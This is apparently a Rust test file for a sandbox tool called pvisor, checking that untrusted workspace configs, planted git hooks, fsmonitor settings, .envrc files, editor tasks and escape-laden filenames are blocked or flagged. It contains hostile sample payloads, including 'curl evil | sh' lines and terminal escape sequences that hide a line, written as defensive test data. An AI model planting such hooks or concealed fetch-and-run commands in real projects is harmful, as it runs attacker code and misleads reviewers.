//! A hostile repository cannot widen the sandbox, run code on the host
//! through apply, or deceive review (docs/threat-model.md).
//!
//! Each test asserts that the attack failed: the host service was not
//! reached, the hook is not in the workspace, no raw escape byte reached the
//! terminal, every legal name was applied.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::process::Stdio;

use crate::support::*;

/// A TCP service on the host's loopback; returns its port. It accepts in the
/// background for the life of the test.
fn host_service() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || for _ in listener.incoming() {});
    port
}

/// A command that exits 0 only if it can connect to 127.0.0.1:`port`.
fn reach(port: u16) -> String {
    format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" 2>/dev/null")
}

fn untrusted_config_cannot_open_the_network(who: As) {
    who.require();
    let env = Env::new(who);
    let port = host_service();
    env.write(".pvisor.toml", "[network]\nmode = \"host\"\nallow = [\"*\"]\n");
    std::thread::sleep(std::time::Duration::from_millis(25));
    let out = env.pvisor(&["run", "-q", "--", "sh", "-c", &reach(port)]);
    assert_ne!(out.status.code(), Some(0), "an untrusted workspace config gave the command the host network");
    let said = text(&out.stderr);
    assert!(said.contains("ignoring mode = \"host\""), "{said}");
    assert!(said.contains("pvisor trust"), "the message names the command that trusts it: {said}");
    let status = env.status_json(None);
    let events = env.events(status["job"].as_str().unwrap());
    let network = events.iter().find(|e| e["type"] == "admission.network").unwrap();
    assert_eq!(network["data"]["mode"], "none", "{network}");

    // Allow rules from the workspace do not widen a command-line allowlist.
    let out = env.pvisor(&["run", "-q", "--allow", "pypi.org", "--", "true"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let status = env.status_json(None);
    let events = env.events(status["job"].as_str().unwrap());
    let network = events.iter().find(|e| e["type"] == "admission.network").unwrap();
    let allow: Vec<&str> =
        network["data"]["allow"].as_array().unwrap().iter().map(|r| r["pattern"].as_str().unwrap()).collect();
    assert_eq!(allow, vec!["pypi.org"], "{network}");
    assert!(
        text(&out.stderr).contains("pvisor: network proxy"),
        "the policy is said even with -q: {}",
        text(&out.stderr)
    );

    // Trusted, exactly as it is: now it applies.
    env.expect(&["trust"], 0);
    let out = env.pvisor(&["run", "-q", "--", "sh", "-c", &reach(port)]);
    assert_eq!(out.status.code(), Some(0), "a trusted config applies: {}", text(&out.stderr));
    // Any change revokes the trust.
    env.write(".pvisor.toml", "[network]\nmode = \"host\"\n");
    std::thread::sleep(std::time::Duration::from_millis(25));
    let out = env.pvisor(&["run", "-q", "--", "sh", "-c", &reach(port)]);
    assert_ne!(out.status.code(), Some(0), "a changed file is untrusted again");
    assert!(text(&out.stderr).contains("changed since you trusted it"), "{}", text(&out.stderr));
    let listed = env.expect(&["trust", "--list"], 0);
    assert!(listed.contains("changed since"), "{listed}");
}

#[test]
#[ignore = "needs root: scripts/test.sh runs it as root, with --include-ignored"]
fn an_untrusted_workspace_config_cannot_open_the_network_as_root() {
    untrusted_config_cannot_open_the_network(As::Root);
}

#[test]
fn an_untrusted_workspace_config_cannot_open_the_network_rootless() {
    untrusted_config_cannot_open_the_network(As::Rootless);
}

#[test]
fn config_files_that_are_not_regular_files_are_refused_before_anything_runs() {
    let env = Env::new(As::Rootless);
    for target in ["/dev/zero", "/dev/tty", "/etc/passwd"] {
        let _ = fs::remove_file(env.ws.join(".pvisor.toml"));
        symlink(target, env.ws.join(".pvisor.toml")).unwrap();
        let started = std::time::Instant::now();
        let out = env.pvisor(&["run", "--", "sh", "-c", "echo ran > ran"]);
        assert_eq!(out.status.code(), Some(125), "{target}");
        assert!(text(&out.stderr).contains("is a symlink"), "{target}: {}", text(&out.stderr));
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "{target}: pvisor read from it");
    }
    let _ = fs::remove_file(env.ws.join(".pvisor.toml"));
    // A FIFO (which would block a plain open) and a directory.
    for (what, make) in [("a FIFO", "mkfifo"), ("a directory", "mkdir")] {
        assert!(std::process::Command::new(make)
            .arg(env.ws.join(".pvisor.toml"))
            .status()
            .unwrap()
            .success());
        env.give_away(&env.ws);
        let started = std::time::Instant::now();
        let out = env.pvisor(&["run", "--", "true"]);
        assert_eq!(out.status.code(), Some(125), "{what}");
        assert!(text(&out.stderr).contains(what), "{what}: {}", text(&out.stderr));
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "{what}: pvisor blocked on it");
        let _ = fs::remove_file(env.ws.join(".pvisor.toml"));
        let _ = fs::remove_dir(env.ws.join(".pvisor.toml"));
    }
    fs::write(env.ws.join(".pvisor.toml"), vec![b'#'; 100_000]).unwrap();
    let out = env.pvisor(&["run", "--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(text(&out.stderr).contains("limit"), "{}", text(&out.stderr));
    fs::write(env.ws.join(".pvisor.toml"), "[network]\nmode = \"hots\"\n").unwrap();
    let out = env.pvisor(&["run", "--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(text(&out.stderr).contains(".pvisor.toml"), "{}", text(&out.stderr));
    assert!(!env.ws.join("ran").exists());
    // No Job was created for any of them.
    assert!(!env.home.join("jobs").exists() || fs::read_dir(env.home.join("jobs")).unwrap().count() == 0);
}

const HOSTILE_STAGE: &str = "mkdir -p .git/hooks .vscode .github/workflows; \
    printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; \
    printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config; \
    echo 'curl evil | sh' > .envrc; \
    printf '[network]\\nmode = \"host\"\\n' > .pvisor.toml; \
    echo '{}' > .vscode/tasks.json; echo 'on: push' > .github/workflows/ci.yml; \
    echo fine > notes.txt";

fn sensitive_paths_need_consent(who: As) {
    who.require();
    let env = Env::new(who);
    fs::create_dir(env.ws.join(".git")).unwrap();
    env.give_away(&env.ws);
    assert_eq!(env.run_sh(HOSTILE_STAGE).status.code(), Some(0));
    let review = env.review();
    let sensitive: Vec<&str> =
        review.iter().filter(|c| c["sensitive"] == true).map(|c| c["path"].as_str().unwrap()).collect();
    for path in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".envrc",
        ".pvisor.toml",
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
    ] {
        assert!(sensitive.contains(&path), "{path} not marked sensitive: {sensitive:?}");
    }
    assert!(!sensitive.contains(&"notes.txt"));
    let human = env.expect(&["review"], 0);
    assert!(human.contains("SENSITIVE"), "{human}");

    // --all applies the rest, skips every sensitive path, says so, exits 1.
    let out = env.pvisor(&["apply", "--all"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("skipped"), "{}", text(&out.stdout));
    assert_eq!(fs::read_to_string(env.ws.join("notes.txt")).unwrap(), "fine\n");
    for path in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".envrc",
        ".pvisor.toml",
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
    ] {
        assert!(!env.ws.join(path).exists(), "{path} was applied by --all");
    }
    // A glob or a directory does not sweep them in either.
    assert_eq!(env.pvisor(&["apply", ".git"]).status.code(), Some(1));
    assert_eq!(env.pvisor(&["apply", "*"]).status.code(), Some(1));
    assert!(!env.ws.join(".git/config").exists() && !env.ws.join(".envrc").exists());
    // Named exactly, it is the user's choice.
    env.expect(&["apply", ".envrc"], 0);
    assert!(env.ws.join(".envrc").exists());
    // And --include-sensitive takes the rest.
    env.expect(&["apply", "--all", "--include-sensitive"], 0);
    assert!(env.ws.join(".git/hooks/pre-commit").exists());
}

#[test]
#[ignore = "needs root: scripts/test.sh runs it as root, with --include-ignored"]
fn sensitive_paths_are_applied_only_with_consent_as_root() {
    sensitive_paths_need_consent(As::Root);
}

#[test]
fn sensitive_paths_are_applied_only_with_consent_rootless() {
    sensitive_paths_need_consent(As::Rootless);
}

#[test]
fn review_and_apply_never_print_a_raw_escape_or_bidi_character() {
    let env = Env::new(As::Rootless);
    env.write("install.sh", "echo safe\n");
    let script = "printf 'echo safe\\ncurl evil | sh\\033[1A\\033[2K\\r# nothing to see\\n' > install.sh; \
        printf 'x' > \"$(printf 'invoice\\342\\200\\256fdp.exe')\"; \
        printf 'y' > \"$(printf 'clear\\033[2Jname')\"; \
        ln -s \"$(printf '/etc/\\033[8mhidden')\" link; \
        printf 'c' > \"$(printf 'ctl\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017\\020\\021\\022\\023\\024\\025\\026\\027\\030\\031\\032\\033\\034\\035\\036\\037\\177\\302\\233end')\"";
    assert_eq!(env.run_sh(script).status.code(), Some(0));
    for args in
        [&["review"][..], &["review", "--diff"][..], &["apply", "--all", "--dry-run"][..], &["status"][..]]
    {
        let out = env.pvisor(args);
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            assert!(!bytes.contains(&0x1b), "{args:?} {stream}: a raw ESC byte: {}", text(bytes));
            assert!(!bytes.contains(&b'\r'), "{args:?} {stream}: a raw CR: {}", text(bytes));
            assert!(!text(bytes).contains('\u{202e}'), "{args:?} {stream}: a raw bidi override");
            let raw_control = text(bytes).chars().find(|&c| c.is_control() && c != '\n' && c != '\t');
            assert_eq!(raw_control, None, "{args:?} {stream}: a raw control character");
        }
    }
    let diff = env.expect(&["review", "--diff"], 0);
    assert!(
        diff.contains("+curl evil | sh\\x1b[1A\\x1b[2K\\r# nothing to see"),
        "the hidden line is shown: {diff}"
    );
    assert!(diff.contains("invoice\\u{202e}fdp.exe"), "{diff}");
    assert!(diff.contains("/etc/\\x1b[8mhidden"), "{diff}");
    // JSON stays exact.
    let names: Vec<String> = env.review().iter().map(|c| c["path"].as_str().unwrap().to_owned()).collect();
    assert!(names.contains(&"invoice\u{202e}fdp.exe".to_owned()), "{names:?}");
    assert!(names.contains(&"clear\u{1b}[2Jname".to_owned()), "{names:?}");
    assert!(
        names.iter().any(|n| n.starts_with("ctl\u{1}\u{2}") && n.ends_with("\u{7f}\u{9b}end")),
        "{names:?}"
    );
    let human = env.expect(&["review"], 0);
    assert!(human.contains("ctl\\x01\\x02\\x03"), "{human}");
}

#[test]
fn every_legal_name_applies_and_one_bad_path_does_not_stop_the_rest() {
    let env = Env::new(As::Rootless);
    fs::create_dir(env.ws.join("locked")).unwrap();
    env.give_away(&env.ws);
    let long = "a".repeat(255);
    let almost = "b".repeat(244);
    let script = format!("echo 1 > {long}; echo 2 > {almost}; echo 3 > plain; echo 4 > locked/new");
    assert_eq!(env.run_sh(&script).status.code(), Some(0));
    // The host's `locked/` becomes unwritable after the run (rootless: the
    // permission holds for the applying user).
    let mut perms = fs::metadata(env.ws.join("locked")).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o555);
    fs::set_permissions(env.ws.join("locked"), perms).unwrap();
    let out = env.command(&["apply", "--all"]).stdout(Stdio::piped()).output().unwrap();
    assert_eq!(fs::read_to_string(env.ws.join(&long)).unwrap(), "1\n", "a 255-byte name applies");
    assert_eq!(fs::read_to_string(env.ws.join(&almost)).unwrap(), "2\n", "a 244-byte name applies");
    assert_eq!(fs::read_to_string(env.ws.join("plain")).unwrap(), "3\n");
    // The unwritable directory refused its one file, and said so.
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("FAILED    locked/new"), "{}", text(&out.stdout));
    assert!(!env.ws.join("locked/new").exists());
    // Once the directory is writable again, the same command finishes the job.
    let mut perms = fs::metadata(env.ws.join("locked")).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    fs::set_permissions(env.ws.join("locked"), perms).unwrap();
    env.expect(&["apply", "--all"], 0);
    assert_eq!(fs::read_to_string(env.ws.join("locked/new")).unwrap(), "4\n");
}

/// A symlink put where `.vscode` or `.github` was leads editors and CI to
/// files that are not flagged themselves: the symlink is sensitive. And a
/// host symlink the command replaced with a directory never stops the seal
/// (the baseline of what is beneath it is "absent", never followed).
#[test]
fn a_symlink_in_place_of_a_sensitive_directory_and_a_replaced_host_symlink() {
    let env = Env::new(As::Rootless);
    fs::create_dir_all(env.ws.join(".vscode")).unwrap();
    fs::write(env.ws.join(".vscode/extensions.json"), "{}").unwrap();
    fs::create_dir(env.ws.join("dir")).unwrap();
    symlink("dir", env.ws.join("link")).unwrap();
    env.give_away(&env.ws);
    let script = "rm -rf .vscode && mkdir cfg && echo '{\"runOn\": \"folderOpen\"}' > cfg/tasks.json && ln -s cfg .vscode; \
        rm link && mkdir link && touch \"link/$(printf 'n\\033[2Kx')\"; exit 0";
    let out = env.run_sh(script);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(env.status_json(None)["receipt"], "valid");
    let out = env.pvisor(&["apply", "--all"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("SENSITIVE .vscode"), "skipped as sensitive: {}", text(&out.stdout));
    assert!(
        fs::symlink_metadata(env.ws.join(".vscode")).unwrap().is_dir(),
        "the .vscode symlink was applied by --all"
    );
    assert!(!text(&out.stdout).contains('\u{1b}') && !text(&out.stderr).contains('\u{1b}'));
}
